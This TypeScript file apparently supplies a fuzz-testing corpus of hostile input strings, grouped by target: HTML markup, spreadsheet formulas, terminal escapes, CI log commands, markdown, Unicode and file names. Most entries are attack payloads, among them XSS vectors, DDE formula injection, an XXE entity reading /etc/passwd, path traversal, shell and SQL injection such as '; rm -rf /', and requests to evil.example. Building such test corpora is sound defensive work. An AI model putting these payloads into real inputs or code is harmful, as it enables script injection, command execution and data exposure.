/** Strings that broke, fooled or crashed some reader of some format. At least 250, each distinct. */
const ESC = '\u001b';
const BEL = '\u0007';

const markup: readonly string[] = [
  '</script><script>window.__pwned=1</script>', '</script>', '</SCRIPT >', '<script>alert(1)</script>', '<script src=//evil.example/x.js></script>', '<!--', '-->', '<!--<script>',
  '<![CDATA[', ']]>', '<img src=x onerror=alert(1)>', '<img src="https://evil.example/b.png">', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe srcdoc="<script>alert(1)</script>">',
  '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '` onclick=`alert(1)', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)',
  'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '<style>*{display:none}</style>', '</style><script>alert(1)</script>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>', '<form action=//evil.example><input name=a>', '<object data=//evil.example>', '<embed src=//evil.example>', '<math><mtext></mtext></math>', '<template><img></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<x onclick=alert(1)>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '<plaintext>', '<xmp>', '&lt;script&gt;', '&#60;script&#62;', '&amp;', '&nbsp;', '&#0;', '&#x1F600;',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 1 %>', '#{1}', '<?xml version="1.0"?>', '<?php echo 1 ?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;', '<!ENTITY x "y">',
];

const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0", '=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', '\t=1+1', '\r=1+1', ' =1+1', '\u00a0=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '-', '+', '=', '@', '-2+3+cmd|x', '1e5', '-1.5', '1,2', '"quoted"', "'quoted'", 'a"b', 'a;b', 'a\tb',
  '=DDE("cmd";"/C calc";"x")', '%0A=1', '|calc', ';=1', '\n=1+1', '0x10', '1_000', '٣', '１２', 'NaN', 'Infinity', '-Infinity', '-0', '1e400', '9007199254740993',
];

const terminal: readonly string[] = [
  `${ESC}[31mred${ESC}[0m`, `${ESC}[2J`, `${ESC}[H`, `${ESC}[1A${ESC}[2K`, `${ESC}]0;title${BEL}`, `${ESC}]52;c;ZXZpbA==${BEL}`, `${ESC}]8;;http://evil.example${BEL}x${ESC}]8;;${BEL}`, `${ESC}P$q"p${ESC}\\`, `${ESC}[?1049h`, `${ESC}c`, `${ESC}[6n`, `${ESC}(0`, '\u009b31m', '\u009d0;t\u009c', '\u0090x\u009c', '\u0000', 'a\u0000b', '\u0001\u0002', '\b\b\b\bPASS', 'x\rPASS', 'x\r\nPASS', 'x\nPASS', '\u000b', '\f', BEL, '\u007f', '\u0085', '\u008d', '\u009f',
  'FAIL\u001b[1K\rPASS', `${ESC}[8mhidden${ESC}[0m`, `${ESC}]1337;File=:x${BEL}`, `${ESC}_Gx${ESC}\\`,
];

const ci: readonly string[] = [
  '::error::x', '::warning file=a,line=1::x', '::set-output name=x::y', '::add-mask::x', '::stop-commands::x', '::group::x', '::endgroup::', '  ::error::x', '\n::error::x', '\r\n::error::x', '%0A::error::x', '%0a::error::x', '%250A', '%', '%25', '%%', '##[error]x', '##[section]x', '##vso[task.setvariable variable=a]b', '##VSO[task.complete result=Failed;]', 'x ##vso[task.complete]', 'x ##[command]y', "##teamcity[testFailed name='x']", '##teamcity[buildStatus]', ':', ',', 'a:b,c', 'file=../../etc/passwd,line=1', 'section_start:0:x\r', '::save-state name=x::y', '::debug::x', '::notice::x', '\u2028::error::x', '\u0085::error::x',
];

const markdown: readonly string[] = [
  '`', '``', '```', '````', '`````', '`a`', '``a``', ' `a', 'a` ', '```\n</details>', '~~~', '|', '||', '\\|', 'a|b|c', '![x](https://evil.example/b.png)', '[x](https://evil.example)', '<https://evil.example>', 'https://evil.example/x', 'www.evil.example', '@everyone', '@org/team', '#123', 'org/repo#1', '**bold**', '_it_', '~~s~~', '# heading', '> quote', '- item', '1. item', '---', '===', '\\', '\\`', '\\\\`', '<details>', '</details>', '<!-- tandem-report -->', '[^1]', '$x^2$', '$$x$$', ':smile:', '\u00a0`', '`\n`', '***', '[ ] task', '<kbd>x</kbd>', 'a\\\n|b', '\n\n# h',
];

const unicode: readonly string[] = [
  '\u202eEVIL\u202c', '\u202a\u202b\u202d', '\u2066\u2067\u2068\u2069', 'user\u202e txt.exe', '\u061c', '\u200e\u200f', '\u200b', '\u200d', '\ufeff', '\ufeffx', '\u2028', '\u2029', 'a\u2028b', '\u2060', '\u00ad', '\ufff9a\ufffab\ufffb', '\ufffe', '\uffff', '\ud800', '\udc00', 'a\ud800b', '\udfff\ud800', '😀', '👩‍👩‍👧‍👦', '🇪🇺', 'e\u0301', `a${'\u0300'.repeat(200)}`, '\u{e0041}\u{e007f}', '\u{10ffff}', '\u{1fffe}', 'ﷺ', 'İıſ', 'ß', 'Å', 'ﬀ', '℀', '\u0e01\u0e33', '\u2000', '\u3000', '\u1680', '\u180e',
];

const names: readonly string[] = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'null', 'undefined', 'true', '', ' ', '.', '..', '../', '../../etc/passwd', '/etc/passwd', '..\\..\\x', 'C:\\x', 'CON', 'NUL.txt', 'aux', '-rf', '--help', '-', '.hidden', '~', '~/x', '$HOME', '$(id)', '`id`', '; rm -rf /', '&& id', '| id', '> x', "'; DROP TABLE x;--", '" OR 1=1', '\\x00', '%00', '%2e%2e%2f', 'a/b', 'a\\b', 'x'.repeat(5000), '9'.repeat(400), '('.repeat(300), '['.repeat(300), '{"a":1}', '[]', '"', "'", '\\"', '\\u0000', '\\', '/', '*', '**', '/a/**/b', '?', '\t', '\u00c0\u00af', '\xc3\x28',
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', 'https://user:pass@evil.example/', 'file:///etc/passwd', '\\\\evil\\share', '{{7*7}}', '%s%s%s%n', '{0}', '\u0000=1',
];

export const HOSTILE_STRINGS: readonly string[] = [...new Set([...markup, ...formulas, ...terminal, ...ci, ...markdown, ...unicode, ...names])];
